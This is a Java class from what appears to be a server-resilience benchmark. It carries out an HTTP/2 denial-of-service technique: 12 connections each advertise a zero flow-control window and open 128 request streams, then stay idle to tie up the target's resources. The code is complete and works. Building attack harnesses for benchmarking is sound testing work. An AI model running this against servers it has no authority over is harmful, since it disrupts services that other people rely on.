package org.spillway.benchmarks.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.IOException;
import java.nio.ByteBuffer;

/** 12 HTTP/2 connections of 12 addresses with 128 streams each, whose windows stay at 0. */
final class ClosedWindows implements Attack {
  private static final int CONNECTIONS = 12;
  private static final int STREAMS = 128;
  private static final int RECEIVE_BUFFER = 64 * 1024;

  /** The connection preface (RFC 9113 §3.4). */
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

  private static final int HEADERS = 1;
  private static final int SETTINGS = 4;
  private static final int END_STREAM_AND_HEADERS = 5;
  private static final int INITIAL_WINDOW_SIZE = 4;

  /** Indexed fields of HPACK's static table (RFC 7541 appendix A): GET and http. */
  private static final byte METHOD_GET = (byte) 0x82;

  private static final byte SCHEME_HTTP = (byte) 0x86;

  /** Literals without indexing, whose names are in the static table. */
  private static final byte AUTHORITY = 1;

  private static final byte PATH = 4;

  private final Target target;
  private final Sockets sockets = new Sockets();

  ClosedWindows(Target target) {
    this.target = target;
  }

  @Override
  public void begin() throws IOException {
    for (int i = 0; i < CONNECTIONS; i++) {
      Sockets.send(sockets.open(target.httpAddress(), 2 + i, RECEIVE_BUFFER), frames());
    }
  }

  private ByteBuffer frames() {
    var frames = ByteBuffer.allocate(64 * 1024);
    frames.put(PREFACE.getBytes(ISO_8859_1));
    frame(frames, SETTINGS, 0, 0, 6);
    frames.putShort((short) INITIAL_WINDOW_SIZE).putInt(0);
    frame(frames, SETTINGS, 1, 0, 0);
    var fields = fields();
    for (int i = 0; i < STREAMS; i++) {
      frame(frames, HEADERS, END_STREAM_AND_HEADERS, 2 * i + 1, fields.remaining());
      frames.put(fields.duplicate());
    }
    return frames.flip();
  }

  private static void frame(ByteBuffer frames, int type, int flags, int stream, int length) {
    frames.putShort((short) (length >> Byte.SIZE)).put((byte) length);
    frames.put((byte) type).put((byte) flags).putInt(stream);
  }

  private ByteBuffer fields() {
    var fields = ByteBuffer.allocate(512).put(METHOD_GET).put(SCHEME_HTTP);
    literal(fields, AUTHORITY, "127.0.0.1");
    literal(fields, PATH, target.file());
    return fields.flip();
  }

  private static void literal(ByteBuffer fields, byte name, String value) {
    fields.put(name).put((byte) value.length()).put(value.getBytes(ISO_8859_1));
  }

  @Override
  public void goOn() {
    // The connections only stay open.
  }

  @Override
  public void close() throws IOException {
    sockets.close();
  }
}
